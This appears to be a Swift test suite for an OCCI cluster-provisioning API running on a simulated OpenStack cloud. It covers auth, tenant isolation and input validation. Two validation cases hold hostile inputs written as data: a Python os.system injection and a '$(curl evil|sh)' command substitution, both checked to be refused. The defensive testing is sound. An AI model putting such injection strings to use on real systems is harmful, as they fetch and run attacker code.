import DiscoCore
import DiscoOpenStack
import Foundation
import Testing
@testable import DiscoServer

/// The OCCI API as the seed README uses it, in-process over the simulated cloud.
@Suite struct OCCIAPITests {
    static let category = ("Category", #"disco; scheme="http://schemas.cloudcomplab.ch/occi/sm#"; class="kind";"#)

    static func createHeaders(token: String, attributes: String) -> [(String, String)] {
        [category, ("Content-type", "text/occi"), ("X-Tenant-Name", "$OS_TENANT_NAME"), ("X-Region-Name", "$OS_REGION_NAME"),
         ("X-User-Name", "$OS_USERNAME"), ("X-Password", "hunter2-secret"), ("X-Auth-Token", token), ("X-OCCI-Attribute", attributes)]
    }

    static let readmeAttributes = """
        icclab.disco.components.heat.networkname="disco-net",icclab.disco.components.heat.externalnetworkname="public",\
        icclab.disco.components.heat.masterimage="ubuntu-22.04",icclab.disco.components.heat.slaveimage="ubuntu-22.04",\
        icclab.disco.components.heat.masterflavor="m1.large",icclab.disco.components.heat.slaveflavor="m1.medium",\
        icclab.disco.components.heat.slavecount="2",icclab.disco.deployer.username="demo",\
        icclab.disco.deployer.password="hunter2-secret",icclab.disco.deployer.region="RegionOne",\
        icclab.disco.dependencies.inject="{'spark': '','hadoop': ''}"
        """

    @Test func readmeSequenceCreatesFollowsAndDeletes() async throws {
        let t = try await TestApp.make()
        defer { Task { await t.stop() } }
        let (token, project) = try await t.login()
        let auth = [("X-Auth-Token", token), ("X-Tenant-Name", "demo")]

        let query = await t.request("GET", "/-/", headers: auth + [("Accept", "text/occi")])
        #expect(query.status == 200)
        #expect(query.headers.values("Category").joined().contains(#"disco; scheme="http://schemas.cloudcomplab.ch/occi/sm#"; class="kind""#))
        #expect(query.headers["Server"]?.contains("OCCI/1.1") == true)

        let created = await t.request("POST", "/disco/", headers: Self.createHeaders(token: token, attributes: Self.readmeAttributes))
        #expect(created.status == 201, "\(created.text)")
        let location = try #require(created.headers["Location"])
        #expect(location.hasPrefix("http://disco.test:8888/disco/"))
        let id = String(location.split(separator: "/").last!)

        let list = await t.request("GET", "/disco/", headers: auth + [("Accept", "text/occi")])
        #expect(list.headers["X-OCCI-Location"] == location)

        try await t.settle { await t.state(of: id, project: project) == .ready }
        let shown = await t.request("GET", "/disco/\(id)", headers: auth + [("Accept", "text/occi")])
        #expect(shown.status == 200)
        let attributes = shown.headers.values("X-OCCI-Attribute").joined(separator: ", ")
        #expect(attributes.contains(#"stack_status="CREATE_COMPLETE""#))
        #expect(attributes.contains(#"external_ip="203.0.113."#))
        #expect(attributes.contains(#"ssh_private_key="-----BEGIN OPENSSH PRIVATE KEY-----"#))
        // Carrying the private key, it is kept by no cache, also when rendered from DISCO's own cache.
        #expect(shown.headers["Cache-Control"] == "no-store")
        #expect(await t.request("GET", "/disco/\(id)", headers: auth + [("Accept", "text/occi")]).headers["Cache-Control"] == "no-store")
        #expect(attributes.contains(#"ssh_public_key="ssh-ed25519 "#))
        #expect(attributes.contains(#"disco.state="ready""#))
        #expect(!attributes.contains("hunter2-secret"))

        let json = await t.request("GET", "/disco/\(id)", headers: auth + [("Accept", "application/occi+json")])
        let body = try json.json()
        let jsonAttributes = try #require(body["attributes"] as? [String: Any])
        #expect(jsonAttributes["stack_status"] as? String == "CREATE_COMPLETE")
        #expect(!json.text.contains("hunter2-secret"))

        let deleted = await t.request("DELETE", "/disco/\(id)", headers: [Self.category, ("Content-type", "text/occi")] + auth)
        #expect(deleted.status == 200)
        let after = await t.request("GET", "/disco/", headers: auth + [("Accept", "text/occi")])
        #expect(after.headers["X-OCCI-Location"] == nil)
        #expect(await t.request("GET", "/disco/\(id)", headers: auth).status == 404)
        try await t.settle { t.simulator.stackNames.isEmpty }
    }

    @Test func authFailuresAre401And403() async throws {
        let t = try await TestApp.make()
        defer { Task { await t.stop() } }
        let missing = await t.request("GET", "/disco/")
        #expect(missing.status == 401)
        #expect(missing.headers["WWW-Authenticate"]?.hasPrefix("Keystone uri='") == true)
        let bad = await t.request("GET", "/disco/", headers: [("X-Auth-Token", "gAAAAAnot-a-token")])
        #expect(bad.status == 401)
        #expect(bad.text.contains("invalid or expired"))
        let token = try await t.token()
        let wrongTenant = await t.request("GET", "/disco/", headers: [("X-Auth-Token", token), ("X-Tenant-Name", "other")])
        #expect(wrongTenant.status == 403)
    }

    @Test func anotherProjectsClusterIsNotFound() async throws {
        let t = try await TestApp.make()
        defer { Task { await t.stop() } }
        let demo = try await t.token()
        let alice = try await t.token("alice", "alice-pw", project: "other")
        let created = await t.request("POST", "/disco/", headers: Self.createHeaders(token: demo, attributes: Self.readmeAttributes))
        let id = String(try #require(created.headers["Location"]).split(separator: "/").last!)
        for method in ["GET", "DELETE"] {
            let response = await t.request(method, "/disco/\(id)", headers: [("X-Auth-Token", alice)])
            #expect(response.status == 404, "\(method) \(response.status)")
        }
        let scale = await t.request("POST", "/disco/\(id)", headers: [("X-Auth-Token", alice), ("Content-Type", "text/occi"),
                                                                       ("X-OCCI-Attribute", #"icclab.disco.components.heat.slavecount="9""#)])
        #expect(scale.status == 404)
        #expect(await t.request("GET", "/api/v1/clusters/\(id)", headers: [("X-Auth-Token", alice)]).status == 404)
        let list = try await t.request("GET", "/api/v1/clusters", headers: [("X-Auth-Token", alice)]).json()
        #expect((list["clusters"] as? [Any])?.isEmpty == true)
        #expect(await t.request("GET", "/disco/\(id)", headers: [("X-Auth-Token", demo)]).status == 200)
    }

    @Test("bad input gets its status and a specific message", arguments: [
        (#"icclab.disco.components.heat.slavecount="-1""#, 400, "icclab.disco.components.heat.slavecount: -1 is not allowed; use 0…1000"),
        (#"icclab.disco.components.heat.slavecount="lots""#, 400, "slavecount: lots is not a whole number"),
        (#"icclab.disco.dependencies.inject="{'sparc': ''}""#, 400, "icclab.disco.components.sparc: is not a known component (did you mean 'spark'?); use one of: "),
        (#"icclab.disco.dependencies.inject="__import__('os').system('id')""#, 400, "icclab.disco.dependencies.inject"),
        (#"icclab.disco.components.heat.masterflavor="m1.lareg""#, 400, "icclab.disco.components.heat.masterflavor: m1.lareg is not a flavor of this cloud (did you mean 'm1.large'?); use one of: "),
        (#"icclab.disco.components.heat.masterflavor="m1.tiny""#, 400, "icclab.disco.components.heat.masterflavor: m1.tiny is not a flavor of this cloud"),
        (#"icclab.disco.dependencies.inject="{'spark': ''}",icclab.disco.components.spark.executor_memory="$(curl evil|sh)""#, 400, "icclab.disco.components.spark.executor_memory: $(curl evil|sh) does not match the allowed pattern"),
        (#"icclab.disco.components.jupyter.password="x""#, 400, "add 'jupyter' to icclab.disco.dependencies.inject"),
        (#"icclab.disco.component.heat.slavecount="2""#, 400, "is not a known attribute"),
        (#"icclab.disco.components.heat.slavecount="5000""#, 400, "icclab.disco.components.heat.slavecount: 5000 is not allowed; use 0…1000"),
    ])
    func badCreate(attribute: String, status: Int, message: String) async throws {
        try await Self.expectRefused(attribute: attribute, status: status, message: message)
    }

    /// Its own test so that the test log does not print the 40 kB value.
    @Test func aVeryLongValueIsRefusedWithItsPattern() async throws {
        let versionSpec = ">=4" + String(repeating: "0", count: 40_000)
        try await Self.expectRefused(
            attribute: #"icclab.disco.dependencies.inject="{'jupyter': ''}",icclab.disco.components.jupyter.password="longenough","#
                + #"icclab.disco.components.jupyter.version_spec=""# + versionSpec + "\"",
            status: 400, message: "does not match the allowed pattern")
    }

    static func expectRefused(attribute: String, status: Int, message: String) async throws {
        let t = try await TestApp.make()
        defer { Task { await t.stop() } }
        let (token, project) = try await t.login()
        let response = await t.request("POST", "/disco/", headers: Self.createHeaders(token: token, attributes: attribute))
        #expect(await t.service.list(projectID: project, includeDeleting: true).isEmpty)
        #expect(response.status == status)
        #expect(response.text.contains(message), "\(response.text)")
        #expect(t.simulator.stackNames.isEmpty)
    }

    @Test func protocolErrors() async throws {
        let t = try await TestApp.make()
        defer { Task { await t.stop() } }
        let token = try await t.token()
        let auth = [("X-Auth-Token", token)]
        #expect(await t.request("GET", "/disco/", headers: auth + [("Accept", "image/png")]).status == 406)
        #expect(await t.request("PUT", "/disco/abc", headers: auth).status == 405)
        #expect(await t.request("GET", "/disco/no-such-id", headers: auth).status == 404)
        let wrongKind = await t.request("POST", "/disco/", headers: auth + [
            ("Category", #"compute; scheme="http://schemas.ogf.org/occi/infrastructure#"; class="kind""#), ("Content-Type", "text/occi")])
        #expect(wrongKind.status == 400)
        #expect(wrongKind.text.contains("not registered"))
        let noKind = await t.request("POST", "/disco/", headers: auth + [("Content-Type", "text/occi")])
        #expect(noKind.status == 400)
        let newerOCCI = await t.request("GET", "/-/", headers: auth + [("User-Agent", "client OCCI/2.2")])
        #expect(newerOCCI.status == 501)
        let plainBody = await t.request("POST", "/disco/", headers: auth + [("Content-Type", "text/plain")],
                                        body: "Category: disco; scheme=\"http://schemas.cloudcomplab.ch/occi/sm#\"; class=\"kind\"\nX-OCCI-Attribute: icclab.disco.components.heat.slavecount=\"1\"\n")
        #expect(plainBody.status == 201, "\(plainBody.text)")
    }
}
